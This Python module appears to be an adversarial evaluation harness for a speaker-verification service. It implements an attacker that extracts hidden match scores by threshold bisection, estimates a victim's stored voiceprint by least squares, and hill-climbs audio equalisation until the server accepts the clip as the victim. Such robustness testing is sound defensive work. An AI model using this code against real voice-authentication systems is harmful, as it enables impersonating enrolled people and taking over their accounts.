"""An attacker: a key of a server, other people's recordings, and a copy of the public model.

recordings ─> server ─> answers ─┬─> least squares ─> the stored voice ─> equalise towards it
             copy ───> embeddings┘                              accepted? <────────┘
recordings ─> equalise a little ─> server ─> better? keep

If an answer holds no score, the attacker finds the score by bisection: it asks for decisions under
policies with thresholds of its choice, as far as the server follows them.
"""

import asyncio
import math
from collections.abc import Callable, Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from typing import Any, TypeAlias

import grpc
import numpy as np
from numpy.typing import NDArray
from sayso.v1 import audio_pb2, decision_pb2, verification_pb2

from service.audio.speech import VoiceActivity
from service.contract import Contract
from service.decisions.scoring import Measures, log_likelihood_ratio
from service.inference.embedder import Embedder
from service.inference.session import Session
from service.settings import SHIPPED_MODEL

RATE = 16_000
GROUP = "everyone"
SERVERS_OWN = math.inf
"""Stands for a policy that leaves the threshold to the server."""

_REFUSALS = (grpc.StatusCode.RESOURCE_EXHAUSTED, grpc.StatusCode.FAILED_PRECONDITION)
_LOWEST_LLR, _HIGHEST_LLR, _BITS = -40.0, 20.0, 6
_BANDS, _LOUDEST_DB = 40, 24.0
_SEED = 14

Samples: TypeAlias = NDArray[np.float32]  # (n,)
Vector: TypeAlias = NDArray[np.float64]  # (dimension,)
Vectors: TypeAlias = NDArray[np.float64]  # (n, dimension)
Worth: TypeAlias = Callable[[Samples], Any]
"""How good a clip is; what is compared by `>=`."""

LINEAR16 = audio_pb2.AudioConfig(
    encoding=audio_pb2.AUDIO_ENCODING_LINEAR16, sample_rate_hertz=RATE, channels=1
)


def pcm(clip: Samples) -> bytes:
    return (np.clip(clip, -1, 1) * 32767).astype("<i2").tobytes()


class Copy:
    """The attacker's own copy of the model."""

    def __init__(self) -> None:
        self._session = Session.open(SHIPPED_MODEL, device="cpu", threads=1, max_batch=4)
        self._activity = VoiceActivity.open()

    @property
    def contract(self) -> Contract:
        return self._session.contract

    def embed(self, clips: Sequence[Samples]) -> Vectors:
        """Embed each clip as the server does; a clip without enough speech is a row of zeros."""
        return asyncio.run(self._embed(clips))

    async def _embed(self, clips: Sequence[Samples]) -> Vectors:
        scale = np.float32(32768)
        decoded = [np.frombuffer(pcm(clip), "<i2").astype(np.float32) / scale for clip in clips]
        embedder = Embedder(self._session, self._activity, max_batch=4, queue_limit=1024)
        async with embedder:
            heard = [await embedder.embed(samples) for samples in decoded]
        nothing = np.zeros(self.contract.dimension, np.float32)
        rows = [nothing if one.embedding is None else one.embedding for one in heard]
        return np.stack(rows).astype(np.float64)

    def cosine(self, llr: float, enrol_speech_s: float, answer: "Answer") -> float:
        """Invert the model's calibration, which is linear in the cosine, at an LLR."""
        calibration = self.contract.calibration
        assert calibration is not None
        at_zero, at_one = (
            log_likelihood_ratio(
                calibration, Measures(score, enrol_speech_s, answer.speech_s, answer.snr_db)
            )
            for score in (0.0, 1.0)
        )
        return (llr - at_zero) / (at_one - at_zero)


@dataclass(frozen=True, slots=True)
class Answer:
    """A decision; scores are None if it holds none, and `band` is its word for how near they
    were."""

    accepted: bool
    cosine: float | None
    llr: float | None
    band: int
    speech_s: float
    snr_db: float


class Refused(Exception):
    """The server refuses to answer: the speaker is locked, or a budget is spent."""


@dataclass(slots=True)
class Oracle:
    """One victim of a server, asked with one key over one rpc, `Verify` or `Identify`."""

    voices: Any
    key: str
    rpc: str
    victim: str
    calls: int = 0
    refusal: str = ""

    def ask(self, clip: Samples, llr: float) -> Answer:
        """Ask for a decision by a policy whose threshold is that LLR; raises `Refused`."""
        self.calls += 1
        try:
            return self._identify(clip, llr) if self.rpc == "Identify" else self._verify(clip, llr)
        except grpc.RpcError as error:
            if error.code() not in _REFUSALS:
                raise
            self.refusal = error.details() or ""
            raise Refused(self.refusal) from error

    def worth(self, clip: Samples) -> tuple[float, bool, int]:
        """Rank a clip by its answer: by the score if there is one, else by band and outcome."""
        answer = self.ask(clip, _LOWEST_LLR)
        llr = -math.inf if answer.llr is None else answer.llr
        return llr, answer.accepted, answer.band

    def _verify(self, clip: Samples, llr: float) -> Answer:
        request = verification_pb2.VerifyRequest(
            speaker_id=self.victim, audio_config=LINEAR16, audio=pcm(clip), policy=_require_llr(llr)
        )
        made = self.voices.Verify(request, metadata=make_credential(self.key)).decision
        accepted = made.outcome == decision_pb2.OUTCOME_ACCEPTED
        return _answer(made, made, accepted=accepted)

    def _identify(self, clip: Samples, llr: float) -> Answer:
        """Identify in a group of all victims: one call asks about each member."""
        request = verification_pb2.IdentifyRequest(
            group_name=GROUP,
            audio_config=LINEAR16,
            audio=pcm(clip),
            policy=_require_llr(llr),
            max_candidates=100,
        )
        made = self.voices.Identify(request, metadata=make_credential(self.key))
        match = next((at for at in made.candidates if at.speaker_id == self.victim), None)
        accepted = made.decision.outcome == decision_pb2.OUTCOME_ACCEPTED and match is not None
        return _answer(made.decision, match, accepted=accepted)


def _answer(made: decision_pb2.Decision, scored: Any, *, accepted: bool) -> Answer:
    quality = made.quality
    return Answer(
        accepted,
        _score(scored, "cosine"),
        _score(scored, "llr"),
        made.band,
        quality.net_speech_s,
        quality.snr_db if quality.HasField("snr_db") else 20.0,
    )


def _score(scored: Any, name: str) -> float | None:
    return float(getattr(scored, name)) if scored is not None and scored.HasField(name) else None


def _require_llr(llr: float) -> decision_pb2.DecisionPolicy:
    if math.isinf(llr):
        return decision_pb2.DecisionPolicy()
    costs = decision_pb2.CostModel(target_prior=0.5, miss_cost=1, false_accept_cost=math.exp(llr))
    return decision_pb2.DecisionPolicy(costs=costs)


def make_credential(key: str) -> tuple[tuple[str, str], ...]:
    return (("authorization", f"Bearer {key}"),)


@dataclass(slots=True)
class Guess:
    """The best linear estimate of a stored voice from its cosines with known embeddings, given the
    mean and covariance of all voices."""

    mean: Vector
    covariance: NDArray[np.float64]  # (dimension, dimension)
    rows: list[Vector] = field(default_factory=list)
    cosines: list[float] = field(default_factory=list)
    errors: list[float] = field(default_factory=list)

    @classmethod
    def from_voices(cls, voices: Vectors) -> "Guess":
        """Begin with the mean and covariance of other voices `(n, dimension)`."""
        mean = voices.mean(axis=0)
        return cls(mean, np.cov(voices.T) + 1e-4 * np.eye(len(mean)))

    def add(self, row: Vector, cosine: float, error: float) -> None:
        self.rows.append(row)
        self.cosines.append(cosine)
        self.errors.append(error)

    @property
    def voice(self) -> Vector:
        """The estimate at unit length."""
        found = self.mean
        if self.rows:
            rows = np.stack(self.rows)
            gain = self.covariance @ rows.T
            seen = rows @ gain + np.diag(np.square(self.errors))
            surprise = np.array(self.cosines) - rows @ self.mean
            found = self.mean + gain @ np.linalg.solve(seen, surprise)
        return np.asarray(found / np.linalg.norm(found))


def measure(
    oracle: Oracle, copy: Copy, clip: Samples, enrol_speech_s: float
) -> tuple[float, float] | None:
    """Measure a clip's cosine and its likely error; None if the answers do not give it away."""
    answer = oracle.ask(clip, _LOWEST_LLR)
    if answer.cosine is not None:
        return answer.cosine, 1e-6
    if not answer.accepted:
        return None
    low, high = _LOWEST_LLR, _HIGHEST_LLR
    for _ in range(_BITS):
        middle = (low + high) / 2
        low, high = (middle, high) if oracle.ask(clip, middle).accepted else (low, middle)
    least, most = (copy.cosine(llr, enrol_speech_s, answer) for llr in (low, high))
    return (least + most) / 2, (most - least) / math.sqrt(12)


def equalize(clip: Samples, gains_db: Vector) -> Samples:
    """Equalize a clip by the gain of each band; bands are evenly spaced on the mel scale."""
    spectrum = np.fft.rfft(clip)
    mel = 2595 * np.log10(1 + np.fft.rfftfreq(len(clip), 1 / RATE) / 700)
    shape = np.interp(mel, np.linspace(0, mel[-1], len(gains_db)), gains_db)
    made = np.fft.irfft(spectrum * 10 ** (shape / 20), len(clip))
    loud: Samples = (0.7 * made / np.abs(made).max()).astype(np.float32)
    return loud


def equalize_at_random(clip: Samples, count: int) -> list[Samples]:
    """Send a clip through `count` equalizers drawn at random."""
    chance = np.random.default_rng(_SEED)
    return [equalize(clip, 5.0 * chance.standard_normal(_BANDS)) for _ in range(count)]


def climb(worth: Worth, clip: Samples, steps: int) -> Samples:
    """Equalize a clip by small steps, each kept unless it is worth less, until `Refused`."""
    chance = np.random.default_rng(_SEED)
    gains, made, step = np.zeros(_BANDS), clip, 4.0
    with suppress(Refused):
        best = worth(clip)
        for _ in range(steps):
            tried = gains + step * chance.standard_normal(_BANDS)
            tried = np.clip(tried, -_LOUDEST_DB, _LOUDEST_DB)
            candidate = equalize(clip, tried)
            value = worth(candidate)
            if value >= best:
                gains, made, best, step = tried, candidate, value, min(1.3 * step, 8.0)
            else:
                step = max(0.95 * step, 0.5)
    return made
